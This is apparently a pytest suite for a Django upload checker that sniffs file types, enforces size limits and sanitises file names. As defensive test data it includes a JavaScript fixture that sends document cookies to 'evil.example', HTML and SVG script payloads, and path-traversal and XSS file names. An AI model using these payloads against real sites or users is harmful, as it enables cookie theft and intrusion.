"""Checking library uploads: real (small) files of each type, liars, oversize files, names."""

import io
import struct
import unicodedata
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from echohub.library import uploads
from echohub.library.models import Resource
from echohub.library.uploads import (
    GB,
    MAX_BYTES,
    MB,
    CheckedFile,
    check_upload,
    format_size,
    limits_for,
    safe_name,
)

# --- Small real files, built here ----------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\x00IEND\xaeB`\x82"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64
HTML = b"<!DOCTYPE html>\n<html><body><script>fetch('/steal')</script></body></html>\n"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'
JAVASCRIPT = b"document.cookie.split(';').forEach(c => fetch('https://evil.example/' + c));\n"


def iso_box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


MP4 = iso_box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2avc1mp41") + iso_box(b"mdat", b"\x00" * 64)
M4A = iso_box(b"ftyp", b"M4A \x00\x00\x02\x00M4A mp42isom") + iso_box(b"mdat", b"\x00" * 64)
WEBM = (
    b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08"
    b"\x42\x82\x84webm\x42\x87\x81\x04\x42\x85\x81\x02" + b"\x00" * 64
)
MP3 = b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" + b"\x00" * 400


def ooxml(part: str, *, padding_entries: int = 0) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("_rels/.rels", "<Relationships/>")
        # Entries before the telling one push it past the first few KB that are sniffed.
        for number in range(padding_entries):
            archive.writestr(
                zipfile.ZipInfo(f"customXml/item{number}.xml"), "<x/>" * 1000
            )  # stored, not compressed: 4 KB each
        archive.writestr(part, "<document/>")
    return buffer.getvalue()


def opendocument(mime: str, *, mimetype_first: bool = True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if not mimetype_first:
            archive.writestr("META-INF/manifest.xml", "<manifest/>" * 1000)
        archive.writestr(zipfile.ZipInfo("mimetype"), mime)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "ESAS"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def compound_file(*stream_names: str) -> bytes:
    """An old-Office compound file whose directory spans two sectors, listing these streams."""
    sector_size = 512
    free, end_of_chain, fat_sector = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    header = bytearray(sector_size)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:34] = struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9) + b"\x06\x00"
    struct.pack_into("<IIII", header, 44, 1, 1, 0, 0x1000)  # 1 FAT sector, directory at 1
    struct.pack_into("<III", header, 60, end_of_chain, 0, end_of_chain)  # no DIFAT sectors
    struct.pack_into("<I", header, 76, 0)  # the FAT is sector 0
    struct.pack_into("<108I", header, 80, *[free] * 108)
    fat = struct.pack("<4I", fat_sector, 2, end_of_chain, end_of_chain) + b"\xff" * 496
    entries = b""
    for index, name in enumerate(("Root Entry", *stream_names)):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry = bytearray(128)
        entry[: len(encoded)] = encoded
        struct.pack_into("<HB", entry, 64, len(encoded), 5 if index == 0 else 2)
        entries += bytes(entry)
    directory = entries.ljust(2 * sector_size, b"\x00")
    return bytes(header) + fat + directory + b"\x00" * sector_size


OLD_PPT = compound_file("Current User", "\x05SummaryInformation", "Pictures", "PowerPoint Document")
OLD_DOC = compound_file("1Table", "WordDocument")
OLD_XLS = compound_file("Workbook")


def upload(name: str, content: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    # The browser's Content-Type is given as a liar would: it must play no part.
    return SimpleUploadedFile(name, content, content_type=content_type)


class Unreadable(io.BytesIO):
    def read(self, size: int | None = -1) -> bytes:
        raise AssertionError("the content was read before the size was checked")


def refusal(file: SimpleUploadedFile, kind: str) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(file, kind)
    return caught.value


# --- Accepted files ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "name", "content", "expected_name", "content_type"),
    [
        ("guide", "Guide douleur.pdf", PDF, "Guide_douleur.pdf", "application/pdf"),
        ("tool", "ESAS.png", PNG, "ESAS.png", "image/png"),
        ("tool", "photo.JPEG", JPEG, "photo.jpeg", "image/jpeg"),
        (
            "guide",
            "Soins.docx",
            ooxml("word/document.xml"),
            "Soins.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "guide",
            "late.docx",
            ooxml("word/document.xml", padding_entries=5),
            "late.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "tool",
            "doses.xlsx",
            xlsx(),
            "doses.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (
            "slides",
            "Session 4.pptx",
            ooxml("ppt/presentation.xml"),
            "Session_4.pptx",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        ),
        (
            "slides",
            "Session 4.odp",
            opendocument("application/vnd.oasis.opendocument.presentation"),
            "Session_4.odp",
            "application/vnd.oasis.opendocument.presentation",
        ),
        (
            "article",
            "article.odt",
            opendocument("application/vnd.oasis.opendocument.text", mimetype_first=False),
            "article.odt",
            "application/vnd.oasis.opendocument.text",
        ),
        ("slides", "old deck.ppt", OLD_PPT, "old_deck.ppt", "application/vnd.ms-powerpoint"),
        ("guide", "old.doc", OLD_DOC, "old.doc", "application/msword"),
        ("recording", "zoom_0.mp4", MP4, "zoom_0.mp4", "video/mp4"),
        ("recording", "audio_only.m4a", M4A, "audio_only.m4a", "audio/mp4"),
        ("recording", "session.webm", WEBM, "session.webm", "video/webm"),
        ("recording", "podcast.mp3", MP3, "podcast.mp3", "audio/mpeg"),
        (
            "protocol",
            "Protocole.txt",
            "Étape 1 : évaluer\n".encode(),
            "Protocole.txt",
            "text/plain",
        ),
        (
            "transcript",
            "GMT2024.vtt",
            b"WEBVTT\n\n00:01.000 --> 00:02.000\nHi\n",
            "GMT2024.vtt",
            "text/vtt",
        ),
        (
            "transcript",
            "teams.vtt",
            "WEBVTT\r\n\r\n00:01.000 --> 00:02.000\r\nHi\r\n".encode("utf-16"),
            "teams.vtt",
            "text/vtt",
        ),
    ],
)
def test_accepted(kind, name, content, expected_name, content_type):
    file = upload(name, content, content_type="application/octet-stream")

    assert check_upload(file, kind) == CheckedFile(expected_name, content_type, len(content))


def test_utf16_transcript_without_a_bom_is_accepted_as_parse_vtt_reads_it():
    content = "WEBVTT\n\n00:01.000 --> 00:02.000\nHi\n".encode("utf-16-le")

    assert check_upload(upload("t.vtt", content), "transcript").content_type == "text/vtt"


def test_a_transcript_must_be_webvtt():
    error = refusal(upload("t.vtt", b"1\n00:00:01,000 --> 00:00:02,000\nHi\n"), "transcript")

    assert error.messages == ["t.vtt is not an accepted file (WebVTT): it looks like plain text."]


def test_the_upload_is_left_at_its_start_for_storing():
    file = upload("late.docx", ooxml("word/document.xml", padding_entries=5))

    check_upload(file, "guide")

    assert file.tell() == 0


def test_a_lying_extension_is_replaced_by_the_real_one():
    assert check_upload(upload("notes.exe", PDF), "guide").safe_name == "notes.pdf"
    assert check_upload(upload("scan.png", JPEG), "tool").safe_name == "scan.jpg"
    assert check_upload(upload("slides.pdf", OLD_PPT), "slides").safe_name == "slides.ppt"
    assert check_upload(upload("no extension", PDF), "guide").safe_name == "no_extension.pdf"


# --- Refused files -----------------------------------------------------------------


def test_html_renamed_pdf_is_refused():
    error = refusal(upload("report.pdf", HTML), "guide")

    assert error.code == "wrong_type"
    assert error.messages == [
        "report.pdf is not an accepted file (PDF, Word, Excel, OpenDocument, PNG or JPEG): "
        "it looks like HTML."
    ]


def test_html_is_refused_even_where_plain_text_is_accepted():
    error = refusal(upload("protocol.txt", b"Step 1\n<p onclick='x()'>hi</p>\n"), "protocol")

    assert error.messages[0].endswith("it looks like HTML.")


def test_svg_renamed_png_is_refused():
    error = refusal(upload("scale.png", SVG, "image/png"), "tool")

    assert error.messages[0].endswith("it looks like an SVG image.")


def test_javascript_renamed_pdf_is_refused():
    error = refusal(upload("guide.pdf", JAVASCRIPT), "guide")

    assert error.messages[0].endswith("it looks like plain text.")


def test_an_accepted_type_of_another_kind_is_refused():
    error = refusal(upload("slides.pdf", MP4), "slides")

    assert error.messages == [
        "slides.pdf is not an accepted file (PDF, PowerPoint or OpenDocument): "
        "it looks like an MP4 video."
    ]


def test_an_old_excel_file_is_not_slides():
    error = refusal(upload("deck.ppt", OLD_XLS), "slides")

    assert error.messages[0].endswith("it looks like an Excel spreadsheet.")


def test_zip_and_programs_are_refused():
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as archive:
        archive.writestr("readme.txt", "hello")

    assert (
        refusal(upload("guide.docx", plain_zip.getvalue()), "guide")
        .messages[0]
        .endswith("it looks like a ZIP archive.")
    )
    assert (
        refusal(upload("guide.pdf", b"MZ\x90\x00" + b"\x00" * 200), "guide")
        .messages[0]
        .endswith("it looks like a .exe file.")
    )


def test_unrecognized_binary_is_refused():
    error = refusal(upload("mystery.pdf", bytes(range(256)) * 4), "guide")

    assert error.messages == [
        "mystery.pdf is not an accepted file (PDF, Word, Excel, OpenDocument, PNG or JPEG), "
        "and its type is not recognized."
    ]


def test_oversize_is_refused_before_reading():
    file = upload("slides.pptx", ooxml("ppt/presentation.xml"))
    file.size = 140 * MB  # as Django's upload handlers count it; no need for 140 MB here
    file.file = Unreadable()  # the size alone decides

    error = refusal(file, "slides")

    assert error.code == "too_large"
    assert error.messages == ["slides.pptx is 140 MB; slides may be at most 100 MB."]


def test_a_recording_over_1_gb():
    file = upload("zoom.mp4", MP4)
    file.size = GB + 1

    assert refusal(file, "recording").messages == [
        "zoom.mp4 is 1.1 GB; a recording may be at most 1 GB."
    ]


def test_exactly_the_limit_is_accepted():
    file = upload("guide.pdf", PDF)
    file.size = MAX_BYTES["guide"]

    assert check_upload(file, "guide").size == 50 * MB


def test_empty_file_is_refused():
    error = refusal(upload("empty.pdf", b""), "guide")

    assert error.code == "empty"
    assert error.messages == ["empty.pdf is empty."]


def test_a_link_has_no_file():
    assert refusal(upload("x.pdf", PDF), "link").messages == [
        "A link has no file: give its address instead."
    ]


def test_an_unknown_kind_is_a_programming_error():
    with pytest.raises(ValueError, match="kind 'podcast'"):
        check_upload(upload("x.pdf", PDF), "podcast")


def test_messages_in_french():
    file = upload("diapos.pptx", ooxml("ppt/presentation.xml"))
    file.size = 140 * MB

    with translation.override("fr"):
        message = refusal(file, "slides").messages[0]

    # Django's catalog translates the units; the sentences await the project's catalog.
    assert "140 Mio" in message
    assert "100 Mio" in message


# --- Names -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\marie\\Desktop\\Échelle ESAS.pdf", "Échelle_ESAS.pdf"),
        ("Échelle ESAS.pdf", "Échelle_ESAS.pdf"),
        (unicodedata.normalize("NFD", "Échelle ESAS.pdf"), "Échelle_ESAS.pdf"),  # as macOS sends it
        ("rapport <script>alert(1)</script>.pdf", "script.pdf"),  # "/" is a path separator
        ("rapport <img src=x onerror=alert(1)>.pdf", "rapport_img_src_x_onerror_alert_1.pdf"),
        ("l'échelle — version 2.pdf", "l_échelle_version_2.pdf"),
        ("report.final.v2.PDF", "report.final.v2.pdf"),
        ("v1.2 final", "v1.2_final.pdf"),
        (".htaccess", "htaccess.pdf"),  # a hidden file no more
        ("....pdf", "guide.pdf"),
        ("", "guide.pdf"),
        ("évaluation—douleur (version 3).pdf", "évaluation_douleur_version_3.pdf"),
    ],
)
def test_safe_name(name, expected):
    assert safe_name(name, uploads.PDF, fallback="guide") == expected


def test_long_names_are_cut_to_100_characters_keeping_the_extension():
    name = safe_name("Soins palliatifs " * 20 + ".pptx", uploads.PPTX)

    assert name == "Soins_palliatifs_" * 5 + "Soins_pall.pptx"
    assert len(name) == 100


def test_a_cut_name_does_not_end_with_a_separator():
    assert safe_name("a" * 95 + " b.pdf", uploads.PDF) == "a" * 95 + ".pdf"


def test_the_checked_name_is_safe():
    file = upload("Échelle ESAS.pdf", PDF)
    file.name = "..\\..\\Échelle ESAS.exe"  # a Windows path, which Django leaves alone

    assert check_upload(file, "tool").safe_name == "Échelle_ESAS.pdf"


# --- Limits as people read them ------------------------------------------------------


def test_every_kind_with_a_file_has_limits():
    kinds = {kind for kind in Resource.Kind.values if kind != "link"}

    assert kinds | {"transcript"} == set(MAX_BYTES)


@pytest.mark.parametrize(
    ("kind", "sentence"),
    [
        ("recording", "MP4, WebM, MP3 or M4A, up to 1 GB"),
        ("slides", "PDF, PowerPoint or OpenDocument, up to 100 MB"),
        ("guide", "PDF, Word, Excel, OpenDocument, PNG or JPEG, up to 50 MB"),
        ("protocol", "PDF, Word, Excel, OpenDocument, PNG, JPEG or plain text, up to 50 MB"),
        ("transcript", "WebVTT, up to 20 MB"),
    ],
)
def test_limits_for(kind, sentence):
    assert limits_for(kind) == sentence


def test_limits_for_in_french_uses_french_units_and_conjunction():
    with translation.override("fr"):
        sentence = limits_for("slides")

    assert " ou OpenDocument" in sentence
    assert sentence.endswith("100 Mio")


@pytest.mark.parametrize(
    ("size", "shown"),
    [
        (0, "0 bytes"),
        (1, "1 byte"),
        (1023, "1023 bytes"),
        (1024, "1 KB"),
        (1536, "1.5 KB"),
        (100 * MB, "100 MB"),
        (100 * MB + 1, "100.1 MB"),  # rounded up: an excess never reads as the limit
        (int(1.5 * GB), "1.5 GB"),
    ],
)
def test_format_size(size, shown):
    assert format_size(size) == shown
